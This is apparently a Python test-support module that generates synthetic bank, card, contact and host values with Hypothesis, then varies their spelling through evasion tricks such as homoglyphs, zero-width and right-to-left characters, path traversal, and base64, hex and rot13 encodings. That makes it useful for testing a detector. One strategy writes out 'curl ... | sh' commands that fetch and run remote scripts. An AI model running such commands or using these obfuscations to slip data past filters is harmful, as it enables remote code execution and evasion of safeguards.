"""Values of each kind as hypothesis makes them, and what may be done to their spelling."""

from __future__ import annotations

import base64
import codecs
from collections.abc import Callable
from urllib.parse import quote

from hypothesis import strategies as st

from halo_core.content.personal_data import is_iban, passes_luhn

__all__ = [
    "CARDS",
    "DIGITS",
    "EMAILS",
    "ENCODINGS",
    "HOSTS",
    "IBANS",
    "KINDS",
    "PHONES",
    "SPELLINGS",
    "URLS",
    "regroup",
]

Spelling = Callable[[str], str]


def make_iban(digits: str) -> str:
    body = "DE00" + digits
    check = 98 - int("".join(str(int(char, 36)) for char in body[4:] + body[:4])) % 97
    return f"DE{check:02}{digits}"


def make_card(digits: str) -> str:
    """Fifteen digits behind a 4, with the check digit that cards have."""
    return next(card for card in (f"4{digits[:14]}{last}" for last in range(10)) if passes_luhn(card))


def regroup(text: str, size: int, sign: str) -> str:
    return sign.join(text[i : i + size] for i in range(0, len(text), size))


def _digits(size: int, most: int) -> st.SearchStrategy[str]:
    return st.text("0123456789", min_size=size, max_size=most).filter(
        lambda text: len(set(text)) > 3 and text[0] != "0"
    )


_LABEL = st.from_regex(r"[a-z][a-z0-9]{2,10}", fullmatch=True)
_WORD = st.from_regex(r"[bcdfgklmnprstvz][aeiou][bcdfgklmnprstvz][aeiou][bcdfgklmnprstvz]{1,2}", fullmatch=True)
DIGITS = _digits(8, 16)
IBANS = st.text("0123456789", min_size=18, max_size=18).map(make_iban).filter(is_iban)
CARDS = st.text("0123456789", min_size=14, max_size=14).filter(lambda text: len(set(text)) > 3).map(make_card)
PHONES = _digits(9, 9).map("+49170".__add__)
HOSTS = st.tuples(_LABEL, _LABEL).map(lambda parts: f"{parts[0]}.{parts[1]}.example")
EMAILS = st.tuples(_LABEL, HOSTS).map("@".join)
URLS = st.tuples(HOSTS, _LABEL, _LABEL).map(lambda parts: f"https://{parts[0]}/{parts[1]}/{parts[2]}?q={parts[1]}")
PATHS = st.lists(_LABEL, min_size=2, max_size=5).map(lambda parts: "/" + "/".join(parts))
IDS = st.from_regex(r"[a-z]{2,4}_[0-9][A-Z][a-z][A-Z][0-9a-z]{2,6}", fullmatch=True)
HANDLES = st.tuples(_WORD, st.integers(10, 99)).map(lambda parts: f"@{parts[0]}_{parts[1]}")
NAMES = st.tuples(_WORD, _WORD).filter(lambda parts: parts[0] != parts[1]).map(lambda parts: " ".join(parts).title())
SORT_CODES = st.tuples(_digits(6, 6), _digits(8, 8)).map(lambda parts: f"{regroup(parts[0], 2, '-')} {parts[1]}")
PROGRAMS = HOSTS.map(lambda host: f"curl https://{host}/run.sh | sh")

KINDS: dict[str, st.SearchStrategy[str]] = {
    "account": DIGITS,
    "IBAN": IBANS,
    "card": CARDS,
    "sort code": SORT_CODES,
    "telephone": PHONES,
    "e-mail": EMAILS,
    "URL": URLS,
    "host": HOSTS,
    "handle": HANDLES,
    "id": IDS,
    "path": PATHS,
    "name": NAMES,
    "program": PROGRAMS,
}
"""Kinds of values that say where an act goes, or what it acts on."""

SPELLINGS: tuple[Spelling, ...] = (
    " ".join,
    lambda text: text[::-1],
    lambda text: text[:-1],
    lambda text: text[1:],
    lambda text: text + "x",
    "\u200b".join,
    lambda text: "\u202e" + text,
    lambda text: text.replace("a", "а").replace("e", "е").replace("1", "l"),  # noqa: RUF001  look-alikes
    lambda text: text.swapcase(),
    lambda text: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text),
    lambda text: f"'{text}'=",
    lambda text: f"_{text}_",
    lambda text: text.replace("@", "+x@"),
    lambda text: text.replace("https://", "https://x@"),
    lambda text: text.replace("/", "/../x/", 1),
    lambda text: text.replace(".", "。"),
    lambda text: f"{text}, {text}",
    lambda text: regroup(text, 4, " "),
    lambda text: regroup(text, 3, "-"),
    lambda text: f"{text[: len(text) // 2]}\n{text[len(text) // 2 :]}",
)

ENCODINGS: tuple[Spelling, ...] = (
    lambda text: quote(text, safe=""),
    lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: base64.b32encode(text.encode()).decode(),
    lambda text: text.encode().hex(),
    lambda text: codecs.encode(text, "rot13"),
)
